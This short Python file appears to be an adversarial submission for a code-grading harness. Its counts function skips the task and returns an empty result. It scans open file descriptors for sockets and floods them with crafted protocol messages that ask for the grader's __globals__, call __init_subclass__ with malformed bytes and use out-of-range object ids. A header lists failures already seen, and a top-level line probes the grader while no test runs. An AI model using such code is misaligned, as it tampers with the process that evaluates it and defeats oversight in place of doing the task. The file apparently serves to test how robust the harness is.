"""Asks the test's process for things while no test runs, and asks again and again instead of answering."""

# /// attack
# seen = ['test_counts: Stopped: .*your code ran for longer', 'In a cell that you added, your code ended the process']
# stock = ["not graded"]
# ///
# %% counts
import os
import stat
import struct

from heldout.grading.protocol import Attribute, Call, Relay, encode


def ask(question):
    message = encode(Relay(question))
    for descriptor in range(3, 50):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, struct.pack(">I", len(message)) + message)
        except OSError:
            pass


def counts(words):
    for number in range(50):
        ask(Call(number, "__init_subclass__", memoryview(b"\x92\x90\x80")))
        ask(Attribute(number, "__globals__"))
        ask(Attribute(-number, ""))
        ask(Call(1 << 40, None, memoryview(b"")))
    return {}


# %% own
ask(Attribute(0, "__globals__"))
